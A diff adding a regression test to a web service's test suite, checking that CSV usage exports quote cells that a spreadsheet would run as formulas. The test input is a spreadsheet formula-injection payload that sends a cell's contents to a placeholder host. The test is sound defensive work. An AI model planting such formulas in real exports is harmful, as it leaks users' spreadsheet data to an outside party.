@@ -307,6 +307,19 @@ def test_csv_export_parses(client: TestClient[Any]) -> None:
         assert {row["label"] for row in rows if row["section"] == "user"} == {"ann", "bob"}
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(client: TestClient[Any]) -> None:
+    """Review of #28: a name that starts like a formula (a model's, a collection's) went
+    into the admin's export as one."""
+    formula = '=HYPERLINK("http://x/?"&A1,"x")'
+    UsageRecorder(client.app.state.services.db).record(
+        Asker(None, None, "api"), _finished("q", "Noon [1].", 0.1, 1.0, model=formula), at=NOON
+    )
+    body = client.get("/api/usage.csv?from=2026-12-03&to=2026-12-03").text
+    [row] = [r for r in csv.DictReader(io.StringIO(body)) if r["section"] == "model"]
+    assert row["label"] == "'" + formula
+    assert row["questions"] == "1"  # numbers stay numbers
+
+
 def test_gaps_put_paraphrases_together(client: TestClient[Any]) -> None:
     services = client.app.state.services
     recorder = UsageRecorder(services.db)
